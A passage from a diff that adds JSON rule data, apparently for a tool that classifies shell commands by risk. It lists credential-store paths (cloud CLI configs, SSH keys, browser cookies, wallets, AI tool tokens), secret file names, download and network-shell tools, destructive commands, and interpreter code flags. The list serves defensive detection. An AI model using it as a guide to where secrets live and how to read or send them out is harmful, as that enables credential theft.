+tassemblies","library/packagecache","library/artifacts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","app"\
+,"apps","test","tests","spec","specs","__tests__","e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes","\
+server","client","clients","api","backend","frontend","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configurati\
+on","settings","public","static","assets","images","img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views","\
+controllers","services","service","utils","util","helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","res\
+ources","i18n","locale","locales","fixtures","plugins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubernet\
+es","charts","helm","ansible","docker","ci",".github",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","schema\
+","schemas","android","ios","macos","windows","linux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resources\
+","benches","benchmarks","bench","vendor","third_party","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wiki"\
+],"source_endings":["ts","tsx","js","jsx","mjs","cjs","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","scala\
+","ex","exs","erl","clj","lua","dart","vue","svelte","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","feature"\
+,"png","svg"],"file_endings":["ts","tsx","js","jsx","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hpp"\
+,"java","kt","kts","swift","php","sh","yml","yaml","toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","proto\
+","ex","exs","scala","cs","lua","ipynb","snap","svg","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfile\
+","gemfile","rakefile","procfile","version","license","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun|\\\
+\\.kube/config|\\\\.kube/cache|\\\\.docker/config\\\\.json|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\\.\
+config/glab-cli|\\\\.config/hcloud|\\\\.config/scw|\\\\.config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/confi\
+gstore|\\\\.heroku/netrc|\\\\.config/stripe|\\\\.config/ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/composer/\
+auth\\\\.json|\\\\.composer/auth\\\\.json|\\\\.config/pip/pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/au\
+th\\\\.json|\\\\.supabase/access-token|\\\\.pulumi/credentials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\.j\
+ira\\\\.d|\\\\.mc/config\\\\.json|\\\\.rancher/cli2\\\\.json|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/ka\
+ggle\\\\.json|\\\\.huggingface/token|\\\\.cache/huggingface/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credentia\
+ls[^/]*|\\\\.gem/credentials|\\\\.terraform\\\\.d/credentials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/key\
+rings|\\\\.local/share/kwalletd|library/keychains|\\\\.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|chro\
+me/profile[^/]*|chromium/default|chromium/profile[^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|google-chrome[^/]*/[^/]*/cooki\
+es|chromium/[^/]*/cookies|brave-browser/[^/]*/cookies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin|\\\\\
+.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_supplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/pki\
+|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkmanager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss/db\
+|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","secret\
+s.yml","id_rsa","id_ed25519",".netrc",".npmrc",".pypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","http",\
+"https","xh","fetch","axel","wget2","Invoke-WebRequest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat","\
+netcat","socat","telnet","lynx","w3m","links","elinks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"kil\
+lers":["pkill","killall","skill","slay","taskkill","Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","spli\
+t","cp","install"],"root_wrappers":["sudo","doas","su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fish",\
+"python","perl","ruby","node","php","source",".","lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub","s\
+hutdown","telinit","transfer","wipe"],"tree_commands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am"],\
+"closed_options":["rm","i","t","d","interactive","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name","\
+p","publish","m","memory","cpus","read-only","cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body_op\
+tions":["d","data","data-ascii","data-binary","data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":["access","add","approve-builds","audi\
+t","autoclean","bin","cache","cat-file","cat-index","check","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","exec","exp\
+lain","fetch","find-hash","foreach","generate-lock-entry","global","help","i","ignored-builds","import","info","init","install","install-test","it","licenses","\
+link","list","ln","login","logout","ls","m","multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile","prune",\
+"publish","rb","rebuild","recursive","remove","rm","root","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start","stop","\
+store","tag","team","test","t","un","uninstall","unlink","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","why","with\
+","workspace","workspaces"],"silent":["[","test","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv","ln"],"\
+risky":["rm","rmdir","unlink","shred","srm","wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdiscard","tru\
+ncate","mv","cp","chmod","chown","chgrp","chattr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","find","xa\
+rgs","sh","bash","dash","zsh","ksh","sudo","su","doas","env","eval","python","python3","perl","ruby","node","php","kill","killall","pkill","shutdown","reboot","\
+halt","poweroff","init","systemctl","service","crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","ufw","mount","umount","docker","k\
+ubectl","helm","terraform","aws","gcloud","az","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runners":["e\
+cho","printf","cat","less","more","head","tail","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","patch","ls\
+","ll","tree","stat","file","touch","mkdir","rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whatis","man","info","help","apropos",\
+"tldr","hash","test","[","[[","true","false",":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","unset","set","shift","read","loca\
+l","declare","alias","unalias","git","hg","svn","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","bundle",\
+"composer","mvn","gradle","make","cmake","ninja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zypper","em\
+erge","port","nix","docker","podman","kubectl","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync","ftp",\
+"tar","zip","unzip","gzip","gunzip","bzip2","xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","nano","e\
+macs","code","ed","ex","jq","yq","xmllint","python","python2","python3","node","deno","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscript","da\
+te","cal","uptime","uname","hostname","whoami","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep","seq",\
+"yes","basename","dirname","realpath","readlink","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings","column"\
+,"fold","fmt","nl","paste","join","split","expand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg","mount",\
+"umount","df","du","free","lsof","ss","netstat","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel","usermod","passwd","crontab","dd\
+","mkfs","truncate","shred","notify-send","say","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","ksh","ev\
+al","source",".","trap","fork-bomb","compgen","complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza","fd","d\
+ropdb","createdb","shellcheck","shfmt","checkbashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand","unexp\
+and","iconv","basenc","uudecode","uuencode","qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4","m4","\
+cpp","envsubst","recode","rot13","pr","csplit","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","shuf","loo\
+k","comm","tsort","ptx","nkf","cut","base32"]},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"modu\
+le":["m"]},"ipython":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","long":["che\
+ck-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","require","import","loader","experimental-lo\
+ader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-direct\
+ory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","ts\
+config","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"nodejs":{"short":"eprC","long":["eval","print\
+","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","\
+redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","\
+test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},\
+"bun":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type\
+","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rej\
+ections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","\
+p","eval","print"],"checks":["c","check"]},"tsx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file\
+","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secu\
+re-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional\
+":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"ts-node":{"short":"eprC","long":["eval","print","require","import","loade\
+r","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-\
+dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-report\
+er-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"deno":{"short":"eprC","lon\
+g":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","\
+openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","tes\
+t-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks\
+":["c","check"]},"zx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","con\
+fig","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit\
+","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascrip\
+t","code":["e","p","eval","print"],"checks":["c","check"]},"perl":{"short":"eEIMm","language":"perl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise","M\
+O=Terse"]},"ruby":{"short":"eIrEC","long":["encoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"ruby","code":["e"]\
+,"checks":["c"]},"rake":{"short":"feER","long":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","rakefile"],"operand\
+s":"no code","usual":["Rakefile","rakefile","Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","process-end","proce\
+ss-file","define","php-ini","server","docroot"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"files":["f","F","f\
+ile"],"checks":["l"]},"awk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"\
+],"files":["f","file","E","exec"],"operands":"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"lang\
+uage":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator","assign","source\
+","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl","long":["file","f\
+ield-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"psql":{"sh\
+ort":"cdfhpUvLoPRTF","long":["command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c"\
+,"command"],"files":["f","file"],"operands":"no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","data\
+base","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long":[\
+"execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","in\
+it-command"],"operands":"no code"},"sqlite3":{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":["cmd"],"files":["\
+init"],"operands":"database then code"},"sqlite":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","long":["cmd","host",\
+"port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"database then code"},"\
+influx":{"long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["execute"],"ope\
+rands":"no code"},"snowsql":{"short":"qf","long":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language\
+":"sql","code":["q","query"],"files":["f"],"operands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set","variable"],"per\
+muted":true,"language":"sql","operands":"database then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","database","file","se\
+t","variable"],"permuted":true,"language":"sql","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["query","host","port",\
+"user","password","database"],"permuted":true,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"short":"qhud","long":\
+["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"operands":"no code"\
+},"cockroach":{"short":"eu","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","cod\
+e":["e","execute"],"operands":"no code"},"cqlsh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file","set","variable"]\
+,"permuted":true,"language":"sql","code":["e","execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username","dbname","databa\
+se","file","set","variable"],"permuted":true,"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","username","password","f\
+ile","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"mongosh":{"short"\
+:"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f",\
+"file"],"operands":"database then files"},"redis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"sh\
+ort":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["\
+eval"],"operands":"code"},"cypher-shell":{"short":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language":"sql","files":["\
+f","file"],"operands":"code"},"rman":{"language":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","execute","file"],"\
+permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto":{"short":"f","long":["server","catalog","schema","user","\
+execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"presto-cli":{"short":"f","long":["server","cata\
+log","schema","user","execute","file"],"permuted":true,"language":"sql","code":["execute"],"files":["f","file"],"operands":"no code"},"hive":{"short":"efunpid",\
+"long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"beeline":{"short":"e\
+funpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"spark-sql":{\
+"short":"efunpid","long":["database","hiveconf","hivevar","master","conf"],"permuted":true,"language":"sql","code":["e"],"files":["f"],"operands":"no code"},"im\
+pala-shell":{"short":"qifdu","long":["query","query_file","impalad","database"],"permuted":true,"language":"sql","code":["q","query"],"files":["f","query_file"]\
+,"operands":"no code"},"ysqlsh":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"language":"sql","code":["c","co\
+mmand"],"files":["f","file"],"operands":"no code"},"vsql":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","file"],"permuted":true,"langu\
+age":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"pgcli":{"short":"cdfhpUvw","long":["command","host","port","username","dbname","fi\
+le"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"mycli":{"short":"ehPuDp","long":["execute","host","port\
+","user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"litecli":{"short":"ehPuDp","long":["execute","host","port","\
+user","database"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"usql":{"short":"cfv","long":["command","file"],"permuted":true,\
+"language":"sql","code":["c","command"],"files":["f","file"],"operands":"no code"},"snow":{"short":"qfc","long":["query","filename","connection"],"permuted":tru\
+e,"language":"sql","code":["q","query"],"files":["f","filename"],"operands":"no code"}},"consoles":{"rails":{"short":"e","long":["environment"],"after":["runner\
+","r","console","c"],"language":"ruby","operands":"code"},"spring":{"short":"e","long":["environment"],"after":["runner","r","console","c"],"language":"ruby","o\
+perands":"code"},"manage.py":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"django-admi\
+n":{"short":"c","long":["command","interface"],"after":["shell","shell_plus"],"language":"python","code":["c","command"]},"flask":{"short":"cd","after":["shell"\
+],"language":"python","code":["c"]},"odoo-bin":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"odoo":{"short":"cd","after":["shell"],"languag\
+e":"python","code":["c"]},"superset":{"short":"cd","after":["shell"],"language":"python","code":["c"]},"scrapy":{"short":"cd","after":["shell"],"language":"pyth\
+on","code":["c"]},"artisan":{"long":["execute"],"after":["tinker"],"language":"php","code":["execute"]},"drush":{"after":["php:eval","php-eval","eval","ev","php\
+:cli"],"language":"php","operands":"code"},"drush.phar":{"after":["php:eval","php-eval","eval","ev","php:cli"],"language":"php","operands":"code"},"wp":{"after"\
+:["eval","shell"],"language":"php","operands":"code"},"wp-cli":{"after":["eval","shell"],"language":"php","operands":"code"},"wp-cli.phar":{"after":["eval","she\
+ll"],"language":"php","operands":"code"}},"wrappers":{"sudo":{"short":"ugpCDRTrthU","long":["user","group","prompt","chdir","chroot","role","type","host","other\
+-user","close-from","command-timeout"],"assigns":true,"folder":["D","chdir"]},"doas":{"short":"uC","assigns":true},"exec":{"short":"a"},"builtin":{},"pkexec":{"\
+long":["user"]},"run0":{"short":"uD","long":["user","chdir","property","setenv","unit"],"folder":["D","chdir"]},"gosu":{"skip":1},"su-exec":{"skip":1},"taskset"\
+:{"skip":1},"setpriv":{"long":["reuid","regid","groups","inh-caps","bounding-set","securebits","pdeathsig"]},"runcon":{"short":"utrl","skip":1},"env":{"short":"\
+uCS","long":["unset","chdir","split-string"],"assigns":true,"folder":["C","chdir"],"code":["S","split-string"]},"cross-env":{"assigns":true},"dotenv":{"short":"\
+ef"},"nohup":{},"setsid":{},"disown":{},"prlimit":{},"unbuffer":{},"valgrind":{},"catchsegv":{},"entr":{},"firejail":{},"torsocks":{},"eatmydata":{},"ccache":{}\
+,"winpty":{},"busybox":{},"toybox":{},"noglob":{},"nocorrect":{},"bunx":{},"pnpx":{},"ddev":{"own":true},"lando":{"own":true},"nice":{"short":"n","long":["adjus\
+tment"]},"ionice":{"short":"cnpPu","long":["class","classdata"]},"chrt":{"short":"TPD","skip":1},"numactl":{"short":"NmCipP"},"timeout":{"short":"sk","long":["s\
+ignal","kill-after"],"skip":1},"stdbuf":{"short":"ioe","long":["input","output","error"]},"time":{"short":"fo","long":["format","output"]},"strace":{"short":"eo\
+psPuXaIbOESU"},"ltrace":{"short":"eopsnaAuSlwF"},"hyperfine":{"short":"wrnmMpcSLDsu","long":["warmup","runs","prepare","cleanup","shell","export-json","export-m\
+arkdown"],"code":["p","c","prepare","cleanup"],"joined":true},"watch":{"short":"nq","long":["interval","equexit"],"joined":true},"pdsh":{"short":"wlgxuftHmjoe",\
+"long":["hosts","user","timeout"],"joined":true},"dsh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"clush":{"short":"wlgxuftHmjoe",\
+"long":["hosts","user","timeout"],"joined":true},"pssh":{"short":"wlgxuftHmjoe","long":["hosts","user","timeout"],"joined":true},"parallel-ssh":{"short":"wlgxuf\
+tHmjoe","long":["hosts","user","timeout"],"joined":true},"flock":{"short":"wEc","long":["wait","timeout","conflict-exit-code","command"],"skip":1,"code":["c","c\
+ommand"]},"script":{"short":"cEIOBTomt","long":["command"],"permuted":true,"skip":99,"code":["c","command"]},"chroot":{"long":["userspec","groups"],"skip":1,"ow\
+n":true},"unshare":{"short":"SGRw","long":["setuid","setgid","root","wd"],"folder":["w","wd"],"own":true},"nsenter":{"short":"tSGrw","long":["target","setuid","\
+setgid"],"own":true},"fakeroot":{"short":"lsib"},"proot":{"short":"rbwqk"},"proxychains":{"short":"f"},"proxychains4":{"short":"f"},"tini":{"short":"pe"},"dumb-\
+init":{"short":"r"},"xvfb-run":{"short":"nesfpw"},"dbus-run-session":{"long":["config-file","dbus-daemon"]},"systemd-run":{"short":"pEMHtu","long":["property","\
+setenv","unit","description","slice","uid","gid","working-directory","on-active","on-calendar","on-boot"],"own":true},"systemd-inhibit":{"long":["what","who","w\
+hy","mode"]},"caffeinate":{"short":"tw"},"npx":{"short":"pc","long":["package","call"],"code":["c","call"]},"uvx":{"long":["from","with","python"]},"su":{"short\
+":"cgGsw","long":["command","group","shell","session-command"],"permuted":true,"skip":99,"code":["c","command","session-command"]},"runuser":{"short":"cgGswu","\
+long":["command","group","shell","session-command","user"],"code":["c","command","session-command"]},"sg":{"short":"c","permuted":true,"skip":99,"code":["c"]}},\
+"runners":{"npm":{"short":"c","long":["package","workspace","prefix","call"],"code":["c","call"],"after":["exec","x","explore"]},"pnpm":{"short":"","long":["pac\
+kage","filter","dir"],"after":["exec","dlx"]},"yarn":{"short":"jp","long":["package","cwd","include","exclude","from","since","jobs"],"after":["dlx","exec"]},"b\
+un":{"short":"","long":[],"after":["x","exec"]},"lerna":{"short":"","long":["scope","ignore","concurrency"],"after":["exec"]},"nx":{"short":"","long":[],"after"\
+:["exec"]},"bundle":{"short":"","long":[],"after":["exec"]},"rbenv":{"short":"","long":[],"after":["exec"]},"pyenv":{"short":"","long":[],"after":["exec"]},"asd\
+f":{"short":"","long":[],"after":["exec"]},"composer":{"short":"","long":[],"after":["exec"]},"volta":{"short":"","long":["node","npm","yarn"],"after":["run"]},\
+"fnm":{"short":"","long":["using"],"after":["exec"]},"corepack":{"short":"","long":[]},"flatpak-spawn":{"short":"","long":[]},"pipx":{"short":"","long":["spec"]\
+,"after":["run"]},"uv":{"short":"","long":["with","python","project","directory","extra","group","env-file"],"after":["run"]},"poetry":{"short":"","long":[],"af\
+ter":["run"]},"pipenv":{"short":"","long":[],"after":["run"]},"pdm":{"short":"","long":[],"after":["run"]},"rye":{"short":"","long":[],"after":["run"]},"hatch":\
+{"short":"","long":[],"after":["run"]},"op":{"short":"","long":[],"after":["run"]},"doppler":{"short":"","long":[],"after":["run"]},"infisical":{"short":"","lon\
+g":[],"after":["run"]},"railway":{"short":"","long":[],"after":["run"]},"dotenv-vault":{"short":"","long":[],"after":["run"]},"heroku":{"short":"ares","long":["\
+app","remote","env","size"],"after":["run","run:detached"]},"conda":{"short":"np","long":["name","prefix"],"after":["run"]},"nvm":{"short":"","long":[],"after":\
+["exec"],"skip":1},"direnv":{"short":"","long":[],"after":["exec"],"skip":1},"lxc":{"short":"","long":[],"after":["exec"],"skip":1},"mise":{"short":"","long":[]\
+,"after":["exec","x"]},"rustup":{"short":"","long":[],"after":["run"],"skip":1},"nix":{"short":"","long":[],"after":["develop","shell","run"]},"vagrant":{"short\
+":"c","long":["command"],"code":["c","command"],"after":["ssh"]},"repo":{"short":"c","long":["command"],"code":["c","command"],"after":["forall"]}},"small_langu\
+ages":{"lua":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"luajit":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.1":{"short":"e","long":[],\
+"code":["e"],"dialect":"lua"},"lua5.2":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.3":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"lua5.\
+4":{"short":"e","long":[],"code":["e"],"dialect":"lua"},"Rscript":{"short":"e","long":[],"code":["e"],"dialect":"r"},"R":{"short":"e","long":[],"code":["e"],"di\
+alect":"r"},"julia":{"short":"eE","long":["eval","print"],"code":["e","E","eval","print"],"dialect":"julia"},"tclsh":{"short":"","long":[],"dialect":"tcl"},"wis\
+h":{"short":"","long":[],"dialect":"tcl"},"expect":{"short":"c","long":[],"code":["c"],"dialect":"tcl"},"emacs":{"short":"e","long":["eval"],"code":["eval","e"]\
+,"dialect":"lisp"},"emacsclient":{"short":"e","long":["eval"],"code":["eval","e"],"dialect":"lisp"},"guile":{"short":"cex","long":["eval"],"code":["c","e","eval\
+","x"],"dialect":"lisp"},"racket":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"sbcl":{"short":"cex","long":["eval"],"code":["c"\
+,"e","eval","x"],"dialect":"lisp"},"ecl":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"clisp":{"short":"cex","long":["eval"],"co\
+de":["c","e","eval","x"],"dialect":"lisp"},"chicken":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"csi":{"short":"cex","long":["\
+eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"gosh":{"short":"cex","long":["eval"],"code":["c","e","eval","x"],"dialect":"lisp"},"elixir":{"short":"e","\
+long":["eval"],"code":["e","eval"],"dialect":"elixir"},"iex":{"short":"e","long":["eval"],"code":["e","eval"],"dialect":"elixir"},"mix":{"short":"e","long":["ev\
+al"],"code":["e","eval"],"dialect":"elixir"},"erl":{"short":"","long":["eval"],"code":["eval"],"dialect":"erlang"},"escript":{"short":"","long":["eval"],"code":\
